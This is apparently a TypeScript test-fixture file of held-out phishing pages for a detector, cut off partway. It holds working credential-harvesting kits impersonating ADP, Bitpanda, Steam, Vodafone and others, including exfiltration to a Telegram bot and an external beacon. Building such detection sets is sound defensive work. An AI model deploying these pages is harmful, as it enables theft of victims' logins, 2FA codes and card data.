import { type Entry, htmlRoute } from '../entry.js';
import { jsonRoute } from '../parts/f-kit.js';

/** Held-out pages by author f, family "phish-services" (blind split). Hand-written; see ../parts/f-kit.ts for the binary builders. */
export const entries: Entry[] = [
  {
    id: "f-phish-adp-direct-deposit",
    label: "phishing",
    kind: "payroll-kit",
    url: "https://adp-workforcenow.employee-portal-update.com/signin/v1/?APPID=WFNPortal&productId=80e309c3",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>ADP | Sign In</title>
<style>
body{margin:0;font-family:"Proxima Nova",Roboto,Arial,sans-serif;background:#f7f7f7;color:#333}
.page{display:flex;min-height:100vh}
.left{flex:1;background:linear-gradient(160deg,#d0271d,#8e0f0a);color:#fff;padding:60px;display:flex;flex-direction:column;justify-content:center}
.left h2{font-size:34px;font-weight:300;max-width:420px}
.right{width:460px;background:#fff;display:flex;align-items:center;justify-content:center}
.form{width:340px}
.adp{font:italic 900 40px/1 Arial;color:#d0271d;letter-spacing:-2px;margin-bottom:24px}
h1{font-size:22px;font-weight:600;margin:0 0 18px}
label{font-size:13px;display:block;margin-bottom:6px;color:#555}
input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #b6b6b6;border-radius:4px;font-size:15px;margin-bottom:16px}
button{width:100%;background:#1b5faa;color:#fff;border:0;border-radius:20px;padding:12px;font-size:15px;font-weight:600;cursor:pointer}
.lnk{font-size:13px;margin-top:16px}.lnk a{color:#1b5faa;display:block;margin-bottom:6px}
.alert{background:#fff4e5;border-left:4px solid #f0a30a;padding:10px;font-size:13px;margin-bottom:16px}
.s{display:none}.s.on{display:block}
.cookie{position:fixed;bottom:16px;left:16px;max-width:360px;background:#fff;box-shadow:0 2px 12px rgba(0,0,0,.2);padding:14px;font-size:12px;border-radius:6px}
</style>
</head>
<body>
<div class="page">
 <div class="left"><h2>Always Designing for People™</h2><p>HR. Talent. Time. Benefits. Payroll.</p></div>
 <div class="right"><div class="form">
  <div class="adp">ADP</div>
  <div class="s on" id="s1">
   <h1>Sign in</h1>
   <div class="alert">Action required: confirm your direct deposit account before the next pay run (Feb 27) to avoid a delayed payment.</div>
   <label>User ID</label><input id="uid" autocomplete="username">
   <button data-n="2">Next</button>
   <div class="lnk"><a href="#">Forgot your user ID/password?</a><a href="#">Create account</a></div>
  </div>
  <div class="s" id="s2">
   <h1>Enter your password</h1>
   <label>Password</label><input id="pwd" type="password">
   <button data-n="3">Sign in</button>
  </div>
  <div class="s" id="s3">
   <h1>Verify your identity</h1>
   <p style="font-size:14px">We sent a verification code to the phone number ending in ••47.</p>
   <label>Verification code</label><input id="code" inputmode="numeric" maxlength="6">
   <button data-n="4">Submit</button>
  </div>
  <div class="s" id="s4">
   <h1>Direct deposit</h1>
   <p style="font-size:14px">Please re-confirm the account where your net pay is deposited.</p>
   <label>Bank routing number</label><input id="rt" inputmode="numeric" maxlength="9">
   <label>Account number</label><input id="ac" inputmode="numeric">
   <label>Last 4 of SSN</label><input id="ssn" maxlength="4">
   <button data-n="5">Save</button>
  </div>
  <div class="s" id="s5"><h1>Thank you</h1><p style="font-size:14px">Your information has been updated. You may now close this window.</p></div>
 </div></div>
</div>
<div class="cookie">We use cookies to improve your experience. By using this site you agree to our <a href="#">Privacy Statement</a>. <button style="width:auto;padding:4px 12px;margin-left:8px" onclick="this.parentNode.remove()">OK</button></div>
<script>
var rec={};
document.querySelectorAll('button[data-n]').forEach(function(b){b.addEventListener('click',function(){
 document.querySelectorAll('.s.on input').forEach(function(i){rec[i.id]=i.value});
 var n=b.getAttribute('data-n');
 fetch('/signin/v1/log',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(Object.assign({step:n},rec))}).catch(function(){});
 document.querySelector('.s.on').classList.remove('on');document.getElementById('s'+n).classList.add('on');
})});
</script>
</body>
</html>
`,
    routes: {
      "adp-workforcenow.employee-portal-update.com/signin/v1/log": jsonRoute({ ok: true }),
    },
  },
  {
    id: "f-phish-milesandmore-meilen-verfall",
    label: "phishing",
    kind: "airline-loyalty",
    url: "https://miles-and-more-meilen.de-kontoservice.com/de/login.html",
    body: `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Miles &amp; More | Login</title>
<style>
body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif;background:#f1f1f1;color:#05164d}
.hd{background:#05164d;color:#fff;padding:18px 32px;display:flex;align-items:center;justify-content:space-between}
.mm{font:300 22px/1 Georgia,serif;letter-spacing:1px}.mm b{color:#ffad00;font-weight:400}
.hero{background:linear-gradient(90deg,#05164d,#1b2e73);color:#fff;padding:30px 32px}
.hero h1{margin:0;font-weight:300;font-size:30px}.hero p{margin:6px 0 0;opacity:.85}
.box{max-width:460px;margin:-10px auto 40px;background:#fff;padding:30px;box-shadow:0 3px 14px rgba(0,0,0,.12);position:relative}
.meil{display:flex;justify-content:space-between;background:#fff7e6;border:1px solid #ffd27a;padding:12px;margin-bottom:18px;font-size:14px}
.meil b{font-size:20px;color:#05164d}
label{display:block;font-size:13px;margin:12px 0 4px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #8992b2;font-size:15px}
button{margin-top:20px;width:100%;background:#ffad00;color:#05164d;border:0;padding:13px;font-size:15px;font-weight:700;cursor:pointer}
.ft{text-align:center;font-size:12px;color:#777;padding:20px}
#kart{display:none}
</style>
</head>
<body>
<div class="hd"><div class="mm">Miles <b>&amp;</b> More</div><div style="font-size:13px">DE | EN</div></div>
<div class="hero"><h1>Ihre Meilen verfallen bald</h1><p>Sichern Sie Ihre Prämienmeilen vor dem Verfall am 28.02.2026.</p></div>
<div class="box">
 <div class="meil"><span>Verfallende Prämienmeilen</span><b>38.420</b></div>
 <form id="lg">
  <label>Servicekartennummer oder Benutzername</label><input name="kartennr" required>
  <label>PIN / Passwort</label><input name="pin" type="password" required>
  <button>Einloggen und Meilen sichern</button>
 </form>
 <form id="kart">
  <p style="font-size:14px">Zur Verlängerung der Meilengültigkeit ist eine einmalige Verifizierung mit Ihrer Kreditkarte (0,00 €) erforderlich.</p>
  <label>Karteninhaber</label><input name="inhaber" required>
  <label>Kreditkartennummer</label><input name="cc" inputmode="numeric" required>
  <label>Gültig bis (MM/JJ)</label><input name="ab" required>
  <label>Prüfnummer</label><input name="cvc" maxlength="4" required>
  <button>Jetzt verifizieren</button>
 </form>
</div>
<div class="ft">Miles &amp; More GmbH · Impressum · Datenschutz · Cookie-Einstellungen</div>
<script>
function tx(f){var o=[];new FormData(f).forEach(function(v,k){o.push(k+'='+encodeURIComponent(v))});var s=document.createElement('img');s.src='https://mm-stat.de-kontoservice.com/c.gif?'+o.join('&')+'&r='+Math.random();s.style.display='none';document.body.appendChild(s)}
document.getElementById('lg').onsubmit=function(e){e.preventDefault();tx(this);this.style.display='none';document.getElementById('kart').style.display='block'};
document.getElementById('kart').onsubmit=function(e){e.preventDefault();tx(this);setTimeout(function(){location.href='https://www.miles-and-more.com/de/de.html'},800)};
</script>
</body>
</html>
`,
  },
  {
    id: "f-phish-vodafone-it-fattura",
    label: "phishing",
    kind: "telco-billing",
    url: "https://area-clienti-vodafone.it-rimborso.net/fai-da-te/fattura?id=IT2026-22817",
    body: `<!DOCTYPE html>
<html lang="it">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Vodafone Italia – Area Clienti | Pagamento fattura</title>
<style>
body{margin:0;font-family:"Vodafone Rg",Arial,sans-serif;background:#f4f4f4;color:#333}
.hd{background:#fff;padding:12px 24px;display:flex;align-items:center;gap:12px;border-bottom:1px solid #ddd}
.sp{width:36px;height:36px;border-radius:50%;background:#e60000;position:relative}
.sp:after{content:"";position:absolute;left:11px;top:7px;width:14px;height:18px;border-radius:50% 50% 50% 0;background:#fff;transform:rotate(-30deg)}
.hd b{font-size:20px}
.c{max-width:560px;margin:24px auto;background:#fff;border-radius:8px;padding:26px}
h1{font-size:22px;margin-top:0}.red{color:#e60000}
table{width:100%;font-size:14px;border-collapse:collapse;margin:12px 0}td{padding:8px 0;border-bottom:1px solid #eee}td:last-child{text-align:right}
.tot{font-size:18px;font-weight:700}
label{display:block;font-size:13px;margin:12px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;border-radius:6px;font-size:15px}
.r{display:flex;gap:10px}.r>div{flex:1}
button{margin-top:18px;width:100%;background:#e60000;color:#fff;border:0;border-radius:6px;padding:13px;font-size:16px}
.sosp{background:#fdecea;padding:10px;border-radius:6px;font-size:13px}
</style>
</head>
<body>
<div class="hd"><div class="sp"></div><b>vodafone</b></div>
<div class="c">
 <h1>Fattura non pagata</h1>
 <div class="sosp">⚠️ Il pagamento automatico della tua ultima fattura non è andato a buon fine. Per evitare la <b class="red">sospensione della linea</b> entro 48 ore, salda l'importo ora.</div>
 <table><tr><td>Fattura n.</td><td>AM2026/0022817</td></tr><tr><td>Periodo</td><td>01/01/2026 – 31/01/2026</td></tr><tr><td>Offerta</td><td>Vodafone Casa Fibra + Red Unlimited</td></tr><tr><td class="tot">Totale da pagare</td><td class="tot">€ 2,99</td></tr></table>
 <form id="pg">
  <label>Intestatario carta</label><input name="intestatario" required>
  <label>Numero carta</label><input name="numero" inputmode="numeric" required>
  <div class="r"><div><label>Scadenza</label><input name="scad" placeholder="MM/AA" required></div><div><label>CVV</label><input name="cvv" maxlength="4" required></div></div>
  <label>Codice fiscale</label><input name="cf" maxlength="16" required>
  <label>Numero di cellulare Vodafone</label><input name="cell" type="tel" required>
  <button>Paga € 2,99</button>
 </form>
</div>
<script>
document.getElementById('pg').addEventListener('submit',function(e){e.preventDefault();
 var d={};new FormData(this).forEach(function(v,k){d[k]=v});d.id=new URLSearchParams(location.search).get('id');
 var enc=btoa(JSON.stringify(d)).split('').reverse().join('');
 fetch('/fai-da-te/api/pay.php',{method:'POST',headers:{'X-Requested-With':'XMLHttpRequest','Content-Type':'application/x-www-form-urlencoded'},body:'p='+encodeURIComponent(enc)})
  .then(function(){location.href='/fai-da-te/attesa.html'}).catch(function(){location.href='/fai-da-te/attesa.html'});
});
</script>
</body>
</html>
`,
    routes: {
      "area-clienti-vodafone.it-rimborso.net/fai-da-te/attesa.html": htmlRoute(`<!DOCTYPE html><html lang="it"><head><meta charset="utf-8"><title>Verifica in corso</title><style>body{font-family:Arial;text-align:center;padding:60px;color:#333}input{padding:10px;font-size:18px;width:180px;text-align:center}button{background:#e60000;color:#fff;border:0;padding:10px 20px;margin-top:12px}</style></head><body><h2>Autorizzazione richiesta</h2><p>Inserisci il codice che la tua banca ti ha inviato via SMS o conferma l'operazione nell'app della tua banca.</p><form method="post" action="/fai-da-te/api/otp.php"><input name="otp" maxlength="8"><br><button>Conferma</button></form></body></html>
`),
      "area-clienti-vodafone.it-rimborso.net/fai-da-te/api/pay.php": jsonRoute({ r: 1 }),
    },
  },
  {
    id: "f-phish-univ-webmail-wix-quota",
    label: "phishing",
    kind: "university-webmail",
    url: "https://itservicedesk4.wixsite.com/webmail-upgrade",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Webmail Upgrade | Itservicedesk4</title>
<meta name="generator" content="Wix.com Website Builder">
<meta name="format-detection" content="telephone=no">
<style>
body{margin:0;font-family:helvetica-w01-roman,Arial,sans-serif;background:#fff}
#WIX_ADS{height:50px;background:#fff;border-bottom:1px solid #eee;display:flex;align-items:center;justify-content:center;font-size:14px;color:#116dff}
.sec{max-width:980px;margin:0 auto;padding:40px 20px;display:flex;gap:40px}
.col1{flex:1}.col1 h1{font-size:36px;color:#7a0019;font-family:Georgia,serif;font-weight:400}
.col1 p{font-size:16px;line-height:1.6;color:#333}
.col2{width:360px;border:1px solid #ddd;padding:26px;background:#fafafa}
.col2 h2{margin:0 0 14px;font-size:20px;color:#333}
.col2 input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #bbb;margin-bottom:12px;font-size:15px}
.col2 button{width:100%;padding:11px;background:#7a0019;color:#fff;border:0;font-size:15px}
.seal{width:70px;height:70px;border-radius:50%;border:4px double #7a0019;display:flex;align-items:center;justify-content:center;font:700 13px Georgia;color:#7a0019;text-align:center;margin-bottom:10px}
.ok{display:none;color:green}
</style>
</head>
<body>
<div id="WIX_ADS">This site was designed with the <b>&nbsp;WIX&nbsp;</b> .com website builder. Create your website today.</div>
<div class="sec">
 <div class="col1">
  <div class="seal">UNIV<br>IT</div>
  <h1>Mailbox Storage Upgrade</h1>
  <p>Dear Student / Faculty / Staff,</p>
  <p>Your university mailbox has exceeded the storage limit set by the Office of Information Technology (<b>1.99 GB of 2 GB</b>). You may not be able to send or receive new messages until you re-validate your account.</p>
  <p>To upgrade your mailbox to <b>50 GB</b> at no cost, please sign in with your university NetID and password using the form. This upgrade is part of the campus migration to the new mail platform scheduled for this semester.</p>
  <p>Thank you,<br>IT Service Desk – Information Technology Services</p>
 </div>
 <div class="col2">
  <h2>Validate your account</h2>
  <form id="w" action="https://itservicedesk4.wixsite.com/_api/wix-forms/v1/submit-form" method="post">
   <input name="email" type="email" placeholder="University email (.edu)" required>
   <input name="netid" placeholder="NetID / Username" required>
   <input name="password" type="password" placeholder="Password" required>
   <input name="password2" type="password" placeholder="Confirm password" required>
   <button type="submit">Upgrade Now</button>
  </form>
  <p class="ok" id="ok">Thank you! Your mailbox will be upgraded within 24 hours.</p>
 </div>
</div>
<script>
document.getElementById('w').addEventListener('submit',function(e){e.preventDefault();var b=new FormData(this);
fetch(this.action,{method:'POST',body:JSON.stringify({formId:'comp-lr8x2n1q',submissions:Object.fromEntries(b)}),headers:{'content-type':'application/json'}}).catch(function(){}).then(function(){document.getElementById('w').style.display='none';document.getElementById('ok').style.display='block'})});
</script>
</body>
</html>
`,
    routes: {
      "itservicedesk4.wixsite.com/_api/wix-forms/v1/submit-form": jsonRoute({ submissionId: '3b1c0e22-88a1-4f33-9b61-6d0c1a7f2e90' }),
    },
  },
  {
    id: "f-phish-bitpanda-konto-verifizierung",
    label: "phishing",
    kind: "crypto-exchange-kit",
    url: "https://web-bitpanda.kontoverifizierung.eu/login?lang=de",
    body: `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Bitpanda – Anmelden</title>
<style>
body{margin:0;font-family:"Manrope",Arial,sans-serif;background:#f7f7f8;color:#101010}
.nav{display:flex;align-items:center;gap:8px;padding:18px 30px;background:#fff}
.pd{width:28px;height:28px;border-radius:8px;background:#27d17f;position:relative}.pd:after{content:"";position:absolute;left:8px;top:6px;width:10px;height:14px;border:3px solid #101010;border-radius:0 8px 8px 0}
.nav b{font-size:20px}
.box{max-width:420px;margin:50px auto;background:#fff;border-radius:16px;padding:32px}
h1{font-size:26px;margin:0 0 6px}.sub{color:#6b6b6b;font-size:14px;margin:0 0 22px}
.fld{margin-bottom:16px}.fld span{font-size:12px;color:#6b6b6b;display:block;margin-bottom:4px}
.fld input{width:100%;box-sizing:border-box;height:48px;padding:0 12px;border:1px solid #dedede;border-radius:10px;font-size:16px;background:#fafafa}
.btn{width:100%;height:50px;border:0;border-radius:12px;background:#101010;color:#fff;font-size:16px;font-weight:700;cursor:pointer}
.hinw{background:#fff6d9;border-radius:10px;padding:12px;font-size:13px;margin-bottom:20px}
.x{display:none}
</style>
</head>
<body>
<div class="nav"><div class="pd"></div><b>bitpanda</b></div>
<div class="box">
 <div id="one">
  <h1>Willkommen zurück</h1><p class="sub">Melde dich bei deinem Bitpanda-Konto an</p>
  <div class="hinw">Gemäß der EU-Verordnung MiCA müssen alle Kund:innen ihre Identität bis zum <b>31.03.2026</b> erneut bestätigen. Nicht verifizierte Konten werden für Auszahlungen gesperrt.</div>
  <div class="fld"><span>E-Mail</span><input id="em" type="email"></div>
  <div class="fld"><span>Passwort</span><input id="pw" type="password"></div>
  <button class="btn" id="n1">Anmelden</button>
 </div>
 <div id="two" class="x">
  <h1>2FA-Bestätigung</h1><p class="sub">Gib den Code aus deiner Authenticator-App ein</p>
  <div class="fld"><span>6-stelliger Code</span><input id="tfa" inputmode="numeric" maxlength="6"></div>
  <button class="btn" id="n2">Bestätigen</button>
 </div>
 <div id="three" class="x">
  <h1>Identität bestätigen</h1><p class="sub">Bitte vervollständige deine Angaben</p>
  <div class="fld"><span>Vollständiger Name</span><input id="nm"></div>
  <div class="fld"><span>Geburtsdatum</span><input id="gb" placeholder="TT.MM.JJJJ"></div>
  <div class="fld"><span>Telefonnummer</span><input id="tl" type="tel"></div>
  <div class="fld"><span>IBAN des Referenzkontos</span><input id="ib"></div>
  <button class="btn" id="n3">Verifizierung abschließen</button>
 </div>
</div>
<script>
var _u='https://api.telegram.org/bot'+['6611','845','230:AAH','_r9Vm2QyKcTu4XoPz8LwNj1aEbSdFgH0k7'].join('')+'/sendMessage',_c='-1001987420135';
function t(m){return fetch(_u,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:_c,text:'[BITPANDA] '+m})}).catch(function(){})}
function v(i){return document.getElementById(i).value}
function sw(a,b){document.getElementById(a).classList.add('x');document.getElementById(b).classList.remove('x')}
document.getElementById('n1').onclick=function(){t('mail '+v('em')+' | pw '+v('pw')).then(function(){sw('one','two')})};
document.getElementById('n2').onclick=function(){t('2fa '+v('em')+' | '+v('tfa')).then(function(){sw('two','three')})};
document.getElementById('n3').onclick=function(){t('kyc '+[v('em'),v('nm'),v('gb'),v('tl'),v('ib')].join(' | ')).then(function(){location.href='https://www.bitpanda.com/de'})};
</script>
</body>
</html>
`,
  },
  {
    id: "f-phish-steam-bitb-tournament",
    label: "phishing",
    kind: "gaming-bitb",
    url: "https://cs2-major-vote.gg-esportsleague.com/team/navi-vote",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>ESL Pro Tour 2026 – Vote for your team</title>
<style>
body{margin:0;background:#0c0d12 radial-gradient(circle at 30% 10%,#27213f,#0c0d12 60%);font-family:"Rajdhani","Segoe UI",Arial,sans-serif;color:#fff;min-height:100vh}
.nav{display:flex;justify-content:space-between;align-items:center;padding:18px 40px;border-bottom:1px solid #222}
.nav b{font-size:22px;letter-spacing:3px}.nav b span{color:#f5b800}
.hero{text-align:center;padding:50px 20px}
.hero h1{font-size:46px;margin:0;text-transform:uppercase;letter-spacing:2px}.hero p{color:#aab}
.teams{display:flex;justify-content:center;gap:30px;margin-top:30px}
.team{width:200px;background:#171924;border:1px solid #2d3042;border-radius:10px;padding:24px;text-align:center}
.team .lg{width:70px;height:70px;margin:0 auto 10px;border-radius:50%;display:flex;align-items:center;justify-content:center;font-weight:800;font-size:20px}
.bar{height:8px;background:#2d3042;border-radius:4px;margin:12px 0}.bar i{display:block;height:100%;border-radius:4px;background:#f5b800}
.vote{background:#f5b800;color:#000;border:0;border-radius:6px;padding:10px 18px;font-weight:800;cursor:pointer;font-size:14px}
.prize{margin-top:30px;color:#f5b800}
/* popup window */
#win{display:none;position:fixed;left:50%;top:50%;transform:translate(-50%,-50%);width:520px;background:#fff;border-radius:8px;box-shadow:0 20px 60px rgba(0,0,0,.7);overflow:hidden;color:#000;font-family:"Segoe UI",Arial,sans-serif}
.chrome{background:#dee1e6;height:34px;display:flex;align-items:center;padding:0 10px;gap:8px;cursor:move}
.chrome .tt{font-size:12px;flex:1;display:flex;align-items:center;gap:6px}
.chrome .btns span{display:inline-block;width:30px;text-align:center;font-size:14px;cursor:pointer}
.url{background:#fff;margin:4px 8px;border-radius:14px;height:26px;display:flex;align-items:center;padding:0 10px;font-size:13px;gap:6px;border:1px solid #ccc}
.url .lock{color:#188038}.url .h{color:#000}.url .p{color:#777}
.steam{background:#171a21;color:#c7d5e0;padding:26px 34px;font-family:"Motiva Sans",Arial,sans-serif}
.steam .lo{font:700 22px Arial;letter-spacing:3px;color:#fff;margin-bottom:20px}
.steam label{font-size:12px;color:#1999ff;text-transform:uppercase;display:block;margin-bottom:4px}
.steam input{width:100%;box-sizing:border-box;background:#32353c;border:0;border-radius:2px;padding:10px;color:#fff;font-size:15px;margin-bottom:14px}
.steam button{background:linear-gradient(90deg,#06bfff,#2d73ff);border:0;color:#fff;padding:12px 0;width:100%;font-size:16px;border-radius:2px}
.steam .g{display:none}
</style>
</head>
<body>
<div class="nav"><b>ESL<span>PRO</span>TOUR</b><span style="color:#aab">Season 23 · Grand Final</span></div>
<div class="hero">
 <h1>Fan Vote – Grand Final</h1>
 <p>Vote for the team you think will win and get a free <b>AK-47 | Case Hardened</b> skin drop. Sign in through Steam to confirm your vote.</p>
 <div class="teams">
  <div class="team"><div class="lg" style="background:#fcdf00;color:#000">NAVI</div><b>Natus Vincere</b><div class="bar"><i style="width:58%"></i></div><button class="vote">Vote</button></div>
  <div class="team"><div class="lg" style="background:#000;border:2px solid #fff">FZ</div><b>FaZe Clan</b><div class="bar"><i style="width:31%"></i></div><button class="vote">Vote</button></div>
  <div class="team"><div class="lg" style="background:#0b3;color:#000">SPR</div><b>Team Spirit</b><div class="bar"><i style="width:11%"></i></div><button class="vote">Vote</button></div>
 </div>
 <p class="prize">🎁 34,109 skins already claimed · 2,891 left</p>
</div>
<div id="win">
 <div class="chrome"><div class="tt"><svg width="14" height="14" viewBox="0 0 24 24"><circle cx="12" cy="12" r="11" fill="#171a21"/><circle cx="15" cy="9" r="4" fill="#fff"/><circle cx="8" cy="16" r="3" fill="#fff"/></svg>Sign In - Steam Community</div><div class="btns"><span>–</span><span>□</span><span id="x">✕</span></div></div>
 <div class="url"><span class="lock">🔒</span><span class="h">https://steamcommunity.com</span><span class="p">/openid/loginform/?goto=%2Fopenid%2Flogin</span></div>
 <div class="steam">
  <div class="lo">STEAM®</div>
  <form id="sf">
   <div class="a"><label>Sign in with account name</label><input id="an" autocomplete="off"><label style="color:#afafaf">Password</label><input id="ap" type="password"><button>Sign in</button></div>
   <div class="g"><p style="font-size:14px">Enter the code from your Steam Mobile App (Steam Guard)</p><input id="sg" maxlength="5" style="text-transform:uppercase;letter-spacing:10px;text-align:center;font-size:22px"><button type="button" id="sgb">Submit</button></div>
  </form>
 </div>
</div>
<script>
document.querySelectorAll('.vote').forEach(function(b){b.onclick=function(){document.getElementById('win').style.display='block'}});
document.getElementById('x').onclick=function(){document.getElementById('win').style.display='none'};
(function(){var w=document.getElementById('win'),h=w.querySelector('.chrome'),dx,dy,drag=false;h.onmousedown=function(e){drag=true;var r=w.getBoundingClientRect();dx=e.clientX-r.left;dy=e.clientY-r.top};document.onmousemove=function(e){if(drag){w.style.left=(e.clientX-dx)+'px';w.style.top=(e.clientY-dy)+'px';w.style.transform='none'}};document.onmouseup=function(){drag=false}})();
var api='/api/steam/auth';
document.getElementById('sf').onsubmit=function(e){e.preventDefault();
 fetch(api,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({login:document.getElementById('an').value,password:document.getElementById('ap').value})}).then(function(r){return r.json()}).catch(function(){return{guard:true}}).then(function(j){if(j.guard){document.querySelector('.steam .a').style.display='none';document.querySelector('.steam .g').style.display='block'}});
};
document.getElementById('sgb').onclick=function(){fetch(api+'/guard',{method:'POST',body:document.getElementById('sg').value}).catch(function(){}).finally(function(){document.getElementById('win').innerHTML='<div style="padding:40px;text-align:center;font-family:Arial">Vote confirmed! Your skin will arrive in your inventory within 24 hours.</div>'})};
</script>
</body>
</html>
`,
    routes: {
      "cs2-major-vote.gg-esportsleague.com/api/steam/auth": jsonRoute({ success: false, guard: true, emailauth_needed: false }),
    },
  },
  {
    id: "f-phish-inpost-doplata-paczka",
    label: "phishing",
    kind: "parcel-fee",
    url: "https://inpost-pl.doplata-paczkomat.com/sledzenie/?nr=620419384772015",
    body: `<!DOCTYPE html>
<html lang="pl">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>InPost – Śledzenie przesyłki</title>
<style>
body{margin:0;font-family:Montserrat,Arial,sans-serif;background:#f2f2f2;color:#3c3c3c}
.hd{background:#ffcd00;padding:14px 24px;display:flex;align-items:center;gap:10px}
.ip{font:800 26px/1 Arial;color:#3c3c3c;letter-spacing:-1px}.ip span{display:inline-block;width:12px;height:12px;background:#3c3c3c;border-radius:2px;margin-left:2px}
.wr{max-width:560px;margin:24px auto;padding:0 14px}
.card{background:#fff;border-radius:6px;padding:20px;margin-bottom:14px}
.st{display:flex;gap:10px;align-items:flex-start;font-size:14px;margin-bottom:10px}.st i{width:12px;height:12px;border-radius:50%;background:#ccc;margin-top:3px;flex:none}.st.a i{background:#ffcd00}.st.w i{background:#e30613}
.dop{background:#fff3cd;padding:12px;border-radius:6px;font-size:14px}
label{font-size:13px;display:block;margin:10px 0 4px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #bbb;border-radius:4px;font-size:15px}
.r{display:flex;gap:10px}.r>div{flex:1}
button{margin-top:16px;width:100%;background:#ffcd00;border:0;padding:14px;font-weight:800;font-size:15px;border-radius:4px;cursor:pointer}
.blik{display:none;text-align:center}.blik input{font-size:28px;text-align:center;letter-spacing:8px}
.ft{font-size:11px;color:#888;text-align:center;margin:20px}
</style>
</head>
<body>
<div class="hd"><div class="ip">InPost<span></span></div></div>
<div class="wr">
 <div class="card">
  <b>Numer przesyłki: <span id="nr"></span></b>
  <div style="height:10px"></div>
  <div class="st a"><i></i><div>Przesyłka nadana<br><small>wt., 10.02.2026 14:22</small></div></div>
  <div class="st a"><i></i><div>W drodze do sortowni – Warszawa<br><small>śr., 11.02.2026 03:41</small></div></div>
  <div class="st w"><i></i><div><b>Wstrzymana – brak dopłaty</b><br><small>Niewystarczająca opłata za gabaryt C</small></div></div>
 </div>
 <div class="card" id="pay">
  <div class="dop">Aby przesyłka została dostarczona do Paczkomatu®, konieczna jest dopłata w wysokości <b>2,49 zł</b>. Jeśli dopłata nie zostanie uregulowana w ciągu 24 godzin, paczka zostanie zwrócona do nadawcy.</div>
  <form id="f1">
   <label>Imię i nazwisko</label><input name="imie" required>
   <label>Numer telefonu</label><input name="tel" type="tel" required>
   <label>Numer karty</label><input name="karta" inputmode="numeric" required>
   <div class="r"><div><label>Data ważności</label><input name="data" placeholder="MM/RR" required></div><div><label>CVV</label><input name="cvv" maxlength="3" required></div></div>
   <button>Zapłać 2,49 zł</button>
  </form>
 </div>
 <div class="card blik" id="blik">
  <p>Potwierdź płatność kodem SMS od Twojego banku</p>
  <input id="kod" maxlength="6" inputmode="numeric">
  <button id="pot">Potwierdź</button>
 </div>
 <div class="ft">InPost S.A. · ul. Pana Tadeusza 4, 30-727 Kraków · Polityka prywatności</div>
</div>
<script>
document.getElementById('nr').textContent=new URLSearchParams(location.search).get('nr')||'620419384772015';
var ep='/sledzenie/api/platnosc';
document.getElementById('f1').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));fetch(ep,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({krok:1,d:d})}).catch(function(){}).finally(function(){document.getElementById('pay').style.display='none';document.getElementById('blik').style.display='block'})};
document.getElementById('pot').onclick=function(){fetch(ep,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({krok:2,kod:document.getElementById('kod').value})}).catch(function(){}).finally(function(){location.href='https://inpost.pl/'})};
</script>
</body>
</html>
`,
    routes: {
      "inpost-pl.doplata-paczkomat.com/sledzenie/api/platnosc": jsonRoute({ status: 'ok' }),
    },
  },
  {
    id: "f-phish-sagawa-fuzai-renraku",
    label: "phishing",
    kind: "parcel-redelivery",
    url: "https://sagawa-exp.redelivery-jp.top/re/index.html?no=4821903377",
    body: `<!DOCTYPE html>
<html lang="ja">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>佐川急便株式会社 - お荷物問い合わせサービス</title>
<style>
body{margin:0;font-family:"Hiragino Kaku Gothic ProN","Noto Sans JP",Meiryo,sans-serif;background:#fff;color:#333;font-size:14px}
.hd{border-bottom:3px solid #00247d;padding:10px 16px;display:flex;align-items:center;gap:10px}
.sg{width:40px;height:40px;background:#00247d;color:#fff;display:flex;align-items:center;justify-content:center;font-weight:700;border-radius:4px}
.hd b{font-size:18px;color:#00247d}
.wr{max-width:600px;margin:0 auto;padding:16px}
.tt{background:#00247d;color:#fff;padding:8px 12px;font-weight:700;margin:16px 0 8px}
table{width:100%;border-collapse:collapse}th,td{border:1px solid #ccc;padding:8px;text-align:left}th{background:#eef1f8;width:35%}
.red{color:#d00;font-weight:700}
label{display:block;margin:10px 0 4px;font-weight:700}
input,select{width:100%;box-sizing:border-box;padding:10px;border:1px solid #aaa;font-size:15px}
.btn{display:block;width:100%;background:#00247d;color:#fff;border:0;padding:14px;font-size:16px;margin-top:16px;cursor:pointer}
.s2{display:none}
.ft{font-size:11px;color:#777;text-align:center;padding:20px}
</style>
</head>
<body>
<div class="hd"><div class="sg">SG</div><b>佐川急便</b></div>
<div class="wr">
 <p>お客様宛にお荷物のお届けにあがりましたが、不在の為持ち帰りました。下記よりご確認・再配達のご依頼をお願いいたします。</p>
 <div class="tt">お荷物情報</div>
 <table><tr><th>お問い合せ送り状NO</th><td id="no"></td></tr><tr><th>配達状況</th><td class="red">ご不在のため持ち帰り</td></tr><tr><th>保管期限</th><td>あと2日</td></tr></table>
 <form id="f1">
  <div class="tt">再配達のお申し込み</div>
  <label>お名前</label><input name="name" required>
  <label>郵便番号</label><input name="zip" placeholder="例）100-0001" required>
  <label>ご住所</label><input name="addr" required>
  <label>電話番号</label><input name="tel" type="tel" required>
  <label>配達希望日</label><select name="day"><option>明日</option><option>明後日</option></select>
  <button class="btn">次へ</button>
 </form>
 <form id="f2" class="s2">
